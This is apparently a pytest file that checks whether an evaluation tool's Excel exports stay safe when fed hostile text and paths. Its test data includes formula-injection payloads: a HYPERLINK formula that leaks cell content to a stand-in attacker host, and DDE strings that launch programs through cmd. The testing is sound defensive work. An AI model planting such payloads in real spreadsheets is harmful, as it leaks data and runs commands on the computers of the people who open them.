"""Attack suite, section 2: every workbook EvalDesk writes, given hostile text and hostile paths.

Formula-looking text must stay inert text (checked cell by cell with openpyxl: no cell is a
formula), characters XML cannot hold are removed and said, text over Excel's 32,767 characters is
cut visibly with its full text kept, and a failed export (missing folder, an input file as the
target, no permission, a full disk) gives a clear message and never leaves an earlier file of the
same name half-written.
"""

from __future__ import annotations

import errno
import os
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from core.tables import EXCEL_CELL_LIMIT, Sheet, TableError, write_workbook

PAYLOADS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "hyperlink": '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")',
    "dde": "=cmd|' /C calc'!A0",
    "dde_plus": "+cmd|' /C notepad'!'A1'",
    "tab_equals": "\t=1+1",
    "cr_equals": "\r=1+1",
    "minus_formula_in_text": "-=SUM(A1:A9)",
}


def _all_cells(path: Path):
    book = load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def _assert_inert(path: Path) -> None:
    """No cell of the workbook is a formula, and no text cell starts with a formula sign
    (text that is only a number, such as "-3.5", excepted)."""
    import re

    number = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?%?")
    for sheet, cell in _all_cells(path):
        assert cell.data_type != "f", f"{sheet}!{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert number.fullmatch(cell.value) or cell.value.strip("-") == "", (
                f"{sheet}!{cell.coordinate} starts like a formula: {cell.value!r}")


@pytest.mark.timeout(30)
@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_formula_text_is_inert(tmp_path, payload):
    frame = pd.DataFrame({"answer": [payload, "plain"], payload: ["header too", "x"]})
    path = tmp_path / "out.xlsx"
    report = write_workbook(path, [Sheet("Answers", frame)])
    _assert_inert(path)
    ws = load_workbook(path)["Answers"]
    shown = "'" + payload.replace("\r", "\n")  # XML reads a carriage return back as \n
    assert ws["A2"].data_type == "s" and ws["A2"].value == shown
    assert ws["B1"].value == shown
    assert any("never runs them as formulas" in n for n in report.notes)
    readme = [c.value for _, c in _all_cells(path) if isinstance(c.value, str)]
    assert any("A2" in v and "formulas" in v for v in readme)


@pytest.mark.timeout(30)
def test_numbers_as_text_stay_numbers_not_quoted(tmp_path):
    frame = pd.DataFrame({"value": ["-3.5", "+7", "-", "--"]})
    path = tmp_path / "out.xlsx"
    write_workbook(path, [Sheet("Data", frame)])
    ws = load_workbook(path)["Data"]
    assert [ws[f"A{r}"].value for r in range(2, 6)] == ["-3.5", "+7", "-", "--"]
    _assert_inert(path)


@pytest.mark.timeout(60)
def test_formula_text_inert_in_aqer_workbook(tmp_path):
    from core.aqer import aqer
    from core.aqer.report import write_report
    from tests.core.aqer.aqer_support import FACTS, HashedBagOfWords, long_frame

    answers = {f"w{k}": {q: right for q, (right, _) in FACTS.items()} for k in range(4)}
    payloads = list(PAYLOADS.values())
    for k, q in enumerate(FACTS):
        answers["w0"][q] = payloads[k % len(payloads)]
    answers["=HYPERLINK(\"http://x.invalid\")"] = {q: wrong for q, (_, wrong) in FACTS.items()}
    result = aqer(long_frame(answers), HashedBagOfWords())
    path = write_report(result, tmp_path / "aqer.xlsx", inputs={"Answers": "=1+1 answers.csv"})
    _assert_inert(path)
    values = [c.value for _, c in _all_cells(path)]
    assert "'" + payloads[0] in values


@pytest.mark.timeout(30)
def test_formula_text_inert_in_personas_workbook(tmp_path):
    from core.majeval import write_personas
    from tests.core.majeval.majeval_support import persona

    people = [persona("=Parents", f"Name {k}", perspective=p)
              for k, p in enumerate(PAYLOADS.values())]
    path = tmp_path / "personas.xlsx"
    write_personas(path, people, descriptions={"=Parents": "@who they are"})
    _assert_inert(path)
    from core.majeval import read_personas

    back = read_personas(path)  # read back: the apostrophe is ours and is taken off again
    assert [p.perspective for p in back.personas] == [" ".join(p.split()) for p in
                                                      PAYLOADS.values()]


@pytest.mark.timeout(30)
def test_formula_text_inert_in_checklist_workbook(tmp_path):
    from core.interacteval import Checklist, ChecklistItem, read_checklists, write_checklists

    items = [ChecklistItem(component="=C", key_question="+K?", question=p.strip() or "q")
             for p in PAYLOADS.values()]
    path = tmp_path / "checklist.xlsx"
    write_checklists(path, [Checklist(dimension="@Clarity", definition="-def", items=items)])
    _assert_inert(path)
    back = read_checklists(path)
    assert [i.question for c in back.checklists for i in c.items] == [i.question for i in items]


@pytest.mark.timeout(30)
def test_illegal_xml_characters_removed_and_said(tmp_path):
    text = "bell\x07 nul\x00 esc\x1b lone\ud800 surrogate \ufffe end"
    frame = pd.DataFrame({"answer": [text]})
    path = tmp_path / "out.xlsx"
    report = write_workbook(path, [Sheet("Data", frame)])
    value = load_workbook(path)["Data"]["A2"].value
    assert value == "bell nul esc lone surrogate  end"
    assert any("control characters" in n and "A2" in n for n in report.notes)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("text", [
    pytest.param("x" * 40_000, id="ascii_40000"),
    pytest.param("😀" * 20_000, id="emoji_40000_utf16_units"),
    pytest.param("=" + "y" * 39_999, id="formula_start_40000"),
])
def test_cell_over_32767_characters_cut_visibly(tmp_path, text):
    frame = pd.DataFrame({"answer": [text, "short"]})
    path = tmp_path / "out.xlsx"
    report = write_workbook(path, [Sheet("Data", frame)])
    book = load_workbook(path)
    shown = book["Data"]["A2"].value
    assert "[cut:" in shown and "Long texts" in shown
    assert len(shown.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT
    parts = [r[4] for r in book["Long texts"].iter_rows(min_row=2, values_only=True)]
    marked = "'" + text if text.startswith("=") else text  # the visible apostrophe stays
    assert "".join(parts) == marked  # the full text is kept, in order
    assert report.cut_cells and report.cut_cells[0].length == len(marked)
    _assert_inert(path)


# --------------------------------------------------------------------------------------------
# Where the workbook goes
# --------------------------------------------------------------------------------------------


def _one_sheet() -> list[Sheet]:
    return [Sheet("Data", pd.DataFrame({"answer": ["new"]}))]


def _earlier(path: Path) -> bytes:
    write_workbook(path, [Sheet("Data", pd.DataFrame({"answer": ["earlier"]}))])
    return path.read_bytes()


def _no_temp_files(folder: Path) -> None:
    assert not [p.name for p in folder.iterdir() if p.name.startswith("~evaldesk-")]


@pytest.mark.timeout(30)
def test_output_in_missing_folder(tmp_path):
    target = tmp_path / "no such folder" / "out.xlsx"
    with pytest.raises(TableError) as err:
        write_workbook(target, _one_sheet())
    assert "does not exist" in err.value.message and "no such folder" in err.value.message


@pytest.mark.timeout(30)
@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_output_equal_to_an_input_file(tmp_path, suffix):
    """The answers file itself chosen as the export: refused, the answers are kept."""
    from tests.attack.conftest import write_csv, write_xlsx

    source = tmp_path / f"answers.{suffix}"
    if suffix == "xlsx":
        write_xlsx(source, ["question", "worker", "answer"], [["Q1", "w1", "yes"]])
        target = source
    else:
        write_csv(source, ["question", "worker", "answer"], [["Q1", "w1", "yes"]])
        target = source.with_name("answers.csv.xlsx")
        os.link(source, target)  # the same file under an .xlsx name
    before = source.read_bytes()
    with pytest.raises(TableError) as err:
        write_workbook(target, _one_sheet())
    assert "answers" in err.value.message and "not written by EvalDesk" in err.value.message
    assert source.read_bytes() == before
    _no_temp_files(tmp_path)


@pytest.mark.timeout(30)
def test_output_replacing_an_earlier_export_is_allowed(tmp_path):
    target = tmp_path / "out.xlsx"
    _earlier(target)
    write_workbook(target, _one_sheet())
    assert load_workbook(target)["Data"]["A2"].value == "new"


@pytest.mark.timeout(30)
def test_output_read_only_file(tmp_path, monkeypatch):
    target = tmp_path / "out.xlsx"
    before = _earlier(target)
    target.chmod(0o444)
    real_access = os.access
    # root may write anywhere: pretend to be a user for whom the file is read-only
    monkeypatch.setattr(os, "access", lambda p, mode, **k: False if Path(p) == target and
                        mode & os.W_OK else real_access(p, mode, **k))
    with pytest.raises(TableError) as err:
        write_workbook(target, _one_sheet())
    assert "read-only" in err.value.message and "out.xlsx" in err.value.message
    assert target.read_bytes() == before
    _no_temp_files(tmp_path)


@pytest.mark.timeout(30)
def test_output_locked_by_another_program(tmp_path, monkeypatch):
    """Windows refuses to replace a file Excel has open: the rename fails with a permission
    error; the message says to close it in Excel; the earlier file is intact."""
    target = tmp_path / "out.xlsx"
    before = _earlier(target)

    def locked(src, dst):
        raise PermissionError(errno.EACCES, "The process cannot access the file", str(dst))

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(TableError) as err:
        write_workbook(target, _one_sheet())
    assert "open in Excel" in err.value.message
    assert target.read_bytes() == before
    _no_temp_files(tmp_path)


@pytest.mark.timeout(30)
def test_output_folder_not_writable(tmp_path, monkeypatch):
    import core.paths

    def refuse(*a, **k):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(core.paths, "temp_file_beside", refuse)
    with pytest.raises(TableError) as err:
        write_workbook(tmp_path / "out.xlsx", _one_sheet())
    assert "may not write in the folder" in err.value.message
    assert not (tmp_path / "out.xlsx").exists()


@pytest.mark.timeout(30)
def test_output_disk_full_mid_write(tmp_path, monkeypatch):
    """ENOSPC after part of the workbook was written: a clear message, the earlier file of the
    same name intact byte for byte, no temporary file left behind."""
    from openpyxl import Workbook

    target = tmp_path / "out.xlsx"
    before = _earlier(target)

    def full(self, filename):
        with open(filename, "wb") as fh:
            fh.write(b"PK\x03\x04 half a workbook")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Workbook, "save", full)
    with pytest.raises(TableError) as err:
        write_workbook(target, _one_sheet())
    assert "disk is full" in err.value.message
    assert target.read_bytes() == before
    _no_temp_files(tmp_path)


@pytest.mark.timeout(60)
def test_output_on_a_real_full_file_system(tmp_path):
    """A 1 MB tmpfs where the machine allows mounting one (else skipped: the injected ENOSPC
    case above covers the message)."""
    import shutil
    import subprocess

    mount = tmp_path / "small"
    mount.mkdir()
    if shutil.which("mount") is None or os.geteuid() != 0:
        pytest.skip("no permission to mount a small file system here")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount)],
                          capture_output=True, check=False)
    if done.returncode != 0:
        pytest.skip("mounting a tmpfs is not allowed here")
    try:
        target = mount / "out.xlsx"
        before = _earlier(target)
        (mount / "filler").write_bytes(b"\0" * (1024 * 1024 - 64 * 1024 - len(before)))
        big = pd.DataFrame({"answer": [os.urandom(3000).hex() for _ in range(400)]})
        with pytest.raises(TableError) as err:
            write_workbook(target, [Sheet("Data", big)])
        assert "disk is full" in err.value.message
        assert target.read_bytes() == before
        _no_temp_files(mount)
    finally:
        import gc

        gc.collect()  # openpyxl's half-written zip handle, if any, is closed
        subprocess.run(["umount", "-l", str(mount)], capture_output=True, check=False)
